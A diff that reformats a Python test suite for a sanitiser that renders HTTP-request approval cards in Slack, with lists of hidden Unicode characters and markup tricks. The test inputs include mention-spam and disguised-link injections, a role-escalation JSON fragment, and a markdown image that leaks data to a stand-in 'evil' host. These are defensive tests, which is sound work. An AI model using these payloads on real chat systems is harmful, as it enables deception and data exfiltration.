@@ -27,7 +27,19 @@ TOKEN = "0123456789abcdef" * 2
 
 
 def row(body: str | None = None, url: str = "https://hr/users/7", **more: Any) -> CardRow:
-    return CardRow(**{"token": TOKEN, "state": State.PENDING, "method": "PUT", "url": url, "body": body, "asker": "U0ANN", "why": "", "expires_at": 2e9} | more)  # fmt: skip
+    return CardRow(
+        **{
+            "token": TOKEN,
+            "state": State.PENDING,
+            "method": "PUT",
+            "url": url,
+            "body": body,
+            "asker": "U0ANN",
+            "why": "",
+            "expires_at": 2e9,
+        }
+        | more
+    )
 
 
 def messages(given: CardRow) -> list[tuple[str, Blocks]]:
@@ -115,7 +127,9 @@ def test_every_character_of_a_long_body_is_on_the_cards(length: int) -> None:
 def test_a_body_in_parts_is_numbered_and_only_the_last_has_buttons() -> None:
     given = row(json.dumps({"text": "x" * 40_000}))
     parts = card_parts(given)
-    assert [mrkdwn(blocks)[0] for _, blocks in parts] == [words.CARD_PART.format(part=i, parts=len(parts) + 1) for i in range(1, len(parts) + 1)]  # fmt: skip
+    assert [mrkdwn(blocks)[0] for _, blocks in parts] == [
+        words.CARD_PART.format(part=i, parts=len(parts) + 1) for i in range(1, len(parts) + 1)
+    ]
     assert not any(buttons(blocks) for _, blocks in parts)
     assert len(buttons(card(given)[1])) == 2
 
@@ -129,15 +143,86 @@ def test_a_section_is_never_folded_away() -> None:
 # --- what hides -------------------------------------------------------------------------------------------------------
 
 HIDING = [
-    "\u202e", "\u202d", "\u2066", "\u2069", "\u200e", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e",
-    "\u115f", "\u3164", "\uffa0", "\u2800", "\ufe0f", "\ufe00", "\U000e0100", "\U000e0041", "\u17b4", "\ue000", "\U000f0000", "\ufff9", "\ufffe",
-    "\x00", "\x1b", "\x7f", "\x85", "\u2028", "\u2029", "\u00a0", "\u3000", "\u2003", "\t", "\r", "\x0b", "\U0001d173", "\U0001bca0",
-]  # fmt: skip
+    "\u202e",
+    "\u202d",
+    "\u2066",
+    "\u2069",
+    "\u200e",
+    "\u061c",
+    "\u200b",
+    "\u200c",
+    "\u200d",
+    "\u2060",
+    "\ufeff",
+    "\u00ad",
+    "\u034f",
+    "\u180e",
+    "\u115f",
+    "\u3164",
+    "\uffa0",
+    "\u2800",
+    "\ufe0f",
+    "\ufe00",
+    "\U000e0100",
+    "\U000e0041",
+    "\u17b4",
+    "\ue000",
+    "\U000f0000",
+    "\ufff9",
+    "\ufffe",
+    "\x00",
+    "\x1b",
+    "\x7f",
+    "\x85",
+    "\u2028",
+    "\u2029",
+    "\u00a0",
+    "\u3000",
+    "\u2003",
+    "\t",
+    "\r",
+    "\x0b",
+    "\U0001d173",
+    "\U0001bca0",
+]
 TRICKS = [
-    "<!channel>", "<!here>", "<@U0BEN>", "<#C1>", "<http://evil|Approve>", "*bold*", "_it_", "~no~", "`code`", "```", "> quote", "&lt;", "&amp;amp;",
-    "Approve", "Deny", words.LOCK, words.CARD_TITLE, words.NO_BODY, "PUT https://hr/users/7", "\n\n\n", "\n" * 200, " " * 500, "a\u0301\u0302\u0303" * 40,
-    "\\u202e", "\\n", "\\", '"', '","role":"admin', "k" * 3_000, "שלום", "مرحبا", ":closed_lock_with_key:", "👩‍👩‍👧", "{{", "…", "%2e",
-]  # fmt: skip
+    "<!channel>",
+    "<!here>",
+    "<@U0BEN>",
+    "<#C1>",
+    "<http://evil|Approve>",
+    "*bold*",
+    "_it_",
+    "~no~",
+    "`code`",
+    "```",
+    "> quote",
+    "&lt;",
+    "&amp;amp;",
+    "Approve",
+    "Deny",
+    words.LOCK,
+    words.CARD_TITLE,
+    words.NO_BODY,
+    "PUT https://hr/users/7",
+    "\n\n\n",
+    "\n" * 200,
+    " " * 500,
+    "a\u0301\u0302\u0303" * 40,
+    "\\u202e",
+    "\\n",
+    "\\",
+    '"',
+    '","role":"admin',
+    "k" * 3_000,
+    "שלום",
+    "مرحبا",
+    ":closed_lock_with_key:",
+    "👩‍👩‍👧",
+    "{{",
+    "…",
+    "%2e",
+]
 
 
 @pytest.mark.parametrize("hidden", HIDING, ids=lambda c: f"U+{ord(c):04X}")
@@ -150,9 +235,25 @@ def test_what_cannot_be_seen_is_shown_as_its_escape(hidden: str) -> None:
 
 def test_no_default_ignorable_character_is_shown_as_itself() -> None:
     """Unicode's own list of what renderers draw as nothing: DerivedCoreProperties.txt, Default_Ignorable_Code_Point."""
-    ranges = [(0xAD, 0xAD), (0x34F, 0x34F), (0x61C, 0x61C), (0x115F, 0x1160), (0x17B4, 0x17B5), (0x180B, 0x180F), (0x200B, 0x200F), (0x202A, 0x202E),
-              (0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF), (0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3),
-              (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF)]  # fmt: skip
+    ranges = [
+        (0xAD, 0xAD),
+        (0x34F, 0x34F),
+        (0x61C, 0x61C),
+        (0x115F, 0x1160),
+        (0x17B4, 0x17B5),
+        (0x180B, 0x180F),
+        (0x200B, 0x200F),
+        (0x202A, 0x202E),
+        (0x2060, 0x206F),
+        (0x3164, 0x3164),
+        (0xFE00, 0xFE0F),
+        (0xFEFF, 0xFEFF),
+        (0xFFA0, 0xFFA0),
+        (0xFFF0, 0xFFF8),
+        (0x1BCA0, 0x1BCA3),
+        (0x1D173, 0x1D17A),
+        (0xE0000, 0xE0FFF),
+    ]
     text = "".join(chr(c) for low, high in ranges for c in range(low, high + 1))
     for at in range(0, len(text), 500):
         part = text[at : at + 500]
@@ -318,18 +419,67 @@ def test_an_answer_is_made_harmless(text: str, shown: str) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "!![x](http://evil/?d=secret)", "!!![x](http://evil)", "!!\n![x](http://evil)", "[![x](http://evil)](http://y)", "![![x](a)](b)",
-        "<<!channel>!channel>", "<!<!channel>>", "<@<@U0BEN>U0BEN>", "<!channel", "< !channel>", "<\n!channel>", "<!channel|", "<!|channel>",
-        "<!channel|" + "x" * 300 + ">", "<!subteam^" + "S" * 300 + ">", "&lt!channel&gt", "&#0060;!channel>", "&lt;<!channel>", "@@channel", "<!@channel>",
-        "<!x|@channel>", "<!x|:closed_lock_with_key:>", ":closed_<!lock>_with_key:", ":closed_lock_with![_key:", ":closed_lock:closed_lock_with_key:_with_key:",
-        "<!date^1^{date}|@here>", "<@|channel>", "<#C1|!here>", "<#<!here>>",
+        "!![x](http://evil/?d=secret)",
+        "!!![x](http://evil)",
+        "!!\n![x](http://evil)",
+        "[![x](http://evil)](http://y)",
+        "![![x](a)](b)",
+        "<<!channel>!channel>",
+        "<!<!channel>>",
+        "<@<@U0BEN>U0BEN>",
+        "<!channel",
+        "< !channel>",
+        "<\n!channel>",
+        "<!channel|",
+        "<!|channel>",
+        "<!channel|" + "x" * 300 + ">",
+        "<!subteam^" + "S" * 300 + ">",
+        "&lt!channel&gt",
+        "&#0060;!channel>",
+        "&lt;<!channel>",
+        "@@channel",
+        "<!@channel>",
+        "<!x|@channel>",
+        "<!x|:closed_lock_with_key:>",
+        ":closed_<!lock>_with_key:",
+        ":closed_lock_with![_key:",
+        ":closed_lock:closed_lock_with_key:_with_key:",
+        "<!date^1^{date}|@here>",
+        "<@|channel>",
+        "<#C1|!here>",
+        "<#<!here>>",
     ],
-)  # fmt: skip
+)
 def test_no_trick_leads_around_it(text: str) -> None:
     assert not DANGEROUS.search(html.unescape(harmless(text)))
 
 
-PIECES = ["<", ">", "!", "@", "#", "|", "[", "]", "(x)", "channel", "here", "everyone", "&lt;", "&gt;", "&#60;", "&#x3c;", "U0BEN", "^", " ", "\n", "![", ":closed_lock_with_key:", words.LOCK, "a"]  # fmt: skip
+PIECES = [
+    "<",
+    ">",
+    "!",
+    "@",
+    "#",
+    "|",
+    "[",
+    "]",
+    "(x)",
+    "channel",
+    "here",
+    "everyone",
+    "&lt;",
+    "&gt;",
+    "&#60;",
+    "&#x3c;",
+    "U0BEN",
+    "^",
+    " ",
+    "\n",
+    "![",
+    ":closed_lock_with_key:",
+    words.LOCK,
+    "a",
+]
 
 
 @settings(max_examples=600, deadline=None)
@@ -338,7 +488,19 @@ def test_no_arrangement_of_markup_survives(text: str) -> None:
     assert not DANGEROUS.search(html.unescape(harmless(text)))
 
 
-@pytest.mark.parametrize("entity", ["&LT;!channel&GT;", "&lt;&excl;channel&gt;", "&lt;&#33;channel>", "<&#64;U0BEN>", "&commat;channel", "&#64;here", "&excl;[x](http://evil)", "&#33;[x](http://evil)"])  # fmt: skip
+@pytest.mark.parametrize(
+    "entity",
+    [
+        "&LT;!channel&GT;",
+        "&lt;&excl;channel&gt;",
+        "&lt;&#33;channel>",
+        "<&#64;U0BEN>",
+        "&commat;channel",
+        "&#64;here",
+        "&excl;[x](http://evil)",
+        "&#33;[x](http://evil)",
+    ],
+)
 def test_entities_do_not_become_markup_when_they_are_undone(entity: str) -> None:
     """Whether Slack's Markdown undoes them before it looks for mentions is not documented; so none is left."""
     assert not DANGEROUS.search(html.unescape(harmless(entity)))
